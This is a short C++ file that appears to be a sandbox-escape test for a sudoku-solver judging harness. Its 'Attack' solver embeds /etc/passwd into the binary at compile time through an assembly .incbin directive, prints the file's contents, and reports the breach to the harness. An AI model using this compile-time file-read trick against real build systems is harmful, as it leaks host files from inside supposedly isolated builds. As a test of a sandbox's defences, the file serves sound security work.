#include "attack.h"
asm(".section .rodata\n"
    "stolen: .incbin \"/etc/passwd\"\n"
    "stolenEnd: .byte 0\n"
    ".text\n");
extern const char stolen[] asm("stolen");
extern const char stolenEnd[] asm("stolenEnd");

class Attack : public Honest {
 public:
  using Honest::Honest;
  bool solve() override {
    for (const char* at = stolen; at != stolenEnd; ++at) std::putchar(*at);
    breach("read /etc/passwd while compiling");
    return Honest::solve();
  }
};

SUDOKU_EXPORT_SOLVER(Attack)
